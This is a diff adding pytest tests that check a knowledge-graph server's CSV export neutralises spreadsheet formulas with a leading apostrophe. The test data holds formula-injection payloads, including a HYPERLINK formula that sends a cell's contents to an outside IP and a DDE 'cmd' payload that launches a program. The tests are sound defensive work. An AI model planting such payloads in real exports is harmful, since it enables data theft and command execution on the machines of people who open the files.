@@ -1,0 +1,92 @@
+"""The CSV of lists for spreadsheets: no cell is a formula, and labels stand beside the IRIs."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+from urllib.parse import quote
+
+import pytest
+from rdflib import RDF, Literal, URIRef
+
+from kg.datasets import GraphNames
+from kg.export import SpreadsheetRows
+from kg.namespaces import CQ
+from kg.store import EmbeddedStore
+from server import Settings, create_app
+from tests.pages.conftest import Reader, running
+
+FORMULAS = (
+    '=HYPERLINK("http://198.51.100.7/?"&A1,"more")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+)
+FORMULA_CHARACTERS = tuple("=+-@\t\r\n\uff1d")
+PLAIN = ("a = b, c", 'said "no"\nand left', "'tis", "", "x" * 200_000, "a\u2028b")
+
+
+def cells(text: str) -> list[list[str]]:
+    """Return the rows of CSV."""
+    return [*csv.reader(io.StringIO(text, newline=""))]
+
+
+@pytest.fixture(scope="module")
+def reader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reader]:
+    """Serve people whose names are formulas, and such as only look like them."""
+    names = GraphNames("https://example.org/formulas/")
+    store = EmbeddedStore.open(tmp_path_factory.mktemp("formulas"), names)
+    people = [(URIRef(f"{names.base}{number}"), name) for number, name in enumerate((*FORMULAS, *PLAIN))]
+    with store.write() as change:
+        change.add(f"{names.base}graph/people", [(person, RDF.type, CQ.Person) for person, _ in people])
+        change.add(f"{names.base}graph/people", [(person, CQ.name, Literal(name)) for person, name in people])
+        change.commit("people", "2026-01-01T00:00:00Z")
+    with running(create_app(store, Settings(names.base, "formulas"))) as reader:
+        yield reader
+
+
+def test_no_cell_of_a_list_is_a_formula_and_no_other_is_changed(reader: Reader) -> None:
+    header, *rows = cells(reader.get("/people", "text/csv").text)
+    listed = [row[header.index("name")] for row in rows]
+    assert sorted(listed) == sorted((*(f"'{formula}" for formula in FORMULAS), *PLAIN))
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_CHARACTERS)]
+
+
+def test_results_of_queries_are_as_the_recommendation_has_them(reader: Reader) -> None:
+    query = f"SELECT ?name {{ ?person <{CQ.name}> ?name }}"
+    _, *rows = cells(reader.get(f"/sparql?query={quote(query)}", "text/csv").text)
+    assert sorted(row[0] if row else "" for row in rows) == sorted((*FORMULAS, *PLAIN))
+    listed = json.loads(reader.get("/people", "application/sparql-results+json").text)["results"]["bindings"]
+    assert sorted(row["name"]["value"] for row in listed) == sorted((*FORMULAS, *PLAIN))
+
+
+@pytest.mark.parametrize("size", [1, 3, 4096])
+def test_rows_are_the_same_whatever_chunks_they_come_in(size: int) -> None:
+    text = io.StringIO()
+    csv.writer(text).writerows([name, "é", name] for name in (*FORMULAS, *PLAIN[:4]))
+    data = text.getvalue().encode()
+    chunks = (data[start : start + size] for start in range(0, len(data), size))
+    rows = cells(b"".join(SpreadsheetRows(chunks)).decode())
+    assert [row[0] for row in rows] == [*(f"'{formula}" for formula in FORMULAS), *PLAIN[:4]]
+    assert all(row == [row[0], "é", row[0]] for row in rows)
+
+
+def test_what_chunks_come_from_is_closed_with_them() -> None:
+    class Source(Iterator[bytes]):
+        closed = False
+
+        def __next__(self) -> bytes:
+            return b"a,b\r\n"
+
+        def close(self) -> None:
+            self.closed = True
+
+    source = Source()
+    rows = SpreadsheetRows(source)
+    rows.close()
+    assert source.closed
